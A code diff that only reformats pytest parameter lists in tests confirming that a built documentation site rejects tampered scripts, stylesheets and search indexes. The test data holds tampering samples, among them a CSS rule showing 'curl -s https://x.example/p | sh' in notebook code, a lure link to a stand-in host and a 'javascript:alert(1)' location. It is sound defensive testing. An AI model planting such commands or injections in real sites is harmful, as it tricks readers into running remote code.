@@ -20,12 +20,15 @@ import pytest
 from tests.verify.artifact_refusal import copied, refused, site  # noqa: F401 (copied, site: fixtures)
 
 
-@pytest.mark.parametrize("name, added", [
-    ("assets/finder.js", b';fetch("/").then(function () { document.title = "rewritten"; });\n'),
-    ("assets/lang-switch.js", b";document.title = 'rewritten';\n"),
-    ("assets/guide.css", b".highlight .c1 { visibility: hidden }\n"),
-    ("assets/javascripts/workers/search-fold.js", b";self.close();\n"),  # overrides/assets/
-])
+@pytest.mark.parametrize(
+    "name, added",
+    [
+        ("assets/finder.js", b';fetch("/").then(function () { document.title = "rewritten"; });\n'),
+        ("assets/lang-switch.js", b";document.title = 'rewritten';\n"),
+        ("assets/guide.css", b".highlight .c1 { visibility: hidden }\n"),
+        ("assets/javascripts/workers/search-fold.js", b";self.close();\n"),  # overrides/assets/
+    ],
+)
 def test_a_script_or_stylesheet_rewritten_after_the_build_is_refused(site, name, added):
     path = site / name
     path.write_bytes(path.read_bytes() + added)
@@ -37,7 +40,13 @@ def test_a_script_of_no_source_is_refused(site):
     refused(site, "assets/late.js", "no file of docs/, overrides/ or the installed theme")
 
 
-@pytest.mark.parametrize("rule", [".jp-InputArea .c1 { display: none }", '.jp-InputArea pre::before { content: "curl -s https://x.example/p | sh" }'])
+@pytest.mark.parametrize(
+    "rule",
+    [
+        ".jp-InputArea .c1 { display: none }",
+        '.jp-InputArea pre::before { content: "curl -s https://x.example/p | sh" }',
+    ],
+)
 def test_a_notebook_stylesheet_renamed_with_the_page_holds_only_jupyterlab_rules(site, rule):
     """The page and its stylesheet rewritten together: the name states the new hash, and the
     page links it, but the rule is no rule of the installed mkdocs-jupyter's stylesheets."""
@@ -60,13 +69,19 @@ def test_the_notebook_stylesheet_is_the_one_its_name_states(site):
     refused(site, sheet.relative_to(site).as_posix())
 
 
-@pytest.mark.parametrize("change, match", [
-    (lambda doc: {**doc, "text": doc["text"] + '<a href="https://x.example/p">scarica lo script corretto</a>'}, "<a href"),
-    (lambda doc: {**doc, "text": doc["text"] + '<img src="../assets/notebook/x.png">'}, "<img src"),
-    (lambda doc: {**doc, "title": '<p class="x">' + doc["title"] + "</p>"}, "<p class"),
-    (lambda doc: {**doc, "location": "javascript:alert(1)"}, "not a relative address"),
-    (lambda doc: {**doc, "location": "//x.example/p"}, "not a relative address"),
-])
+@pytest.mark.parametrize(
+    "change, match",
+    [
+        (
+            lambda doc: {**doc, "text": doc["text"] + '<a href="https://x.example/p">scarica lo script corretto</a>'},
+            "<a href",
+        ),
+        (lambda doc: {**doc, "text": doc["text"] + '<img src="../assets/notebook/x.png">'}, "<img src"),
+        (lambda doc: {**doc, "title": '<p class="x">' + doc["title"] + "</p>"}, "<p class"),
+        (lambda doc: {**doc, "location": "javascript:alert(1)"}, "not a relative address"),
+        (lambda doc: {**doc, "location": "//x.example/p"}, "not a relative address"),
+    ],
+)
 @pytest.mark.parametrize("index", ["search/search_index.json", "fr/search/search_index.json"])
 def test_a_search_index_with_markup_material_does_not_write_is_refused(site, index, change, match):
     path = site / index
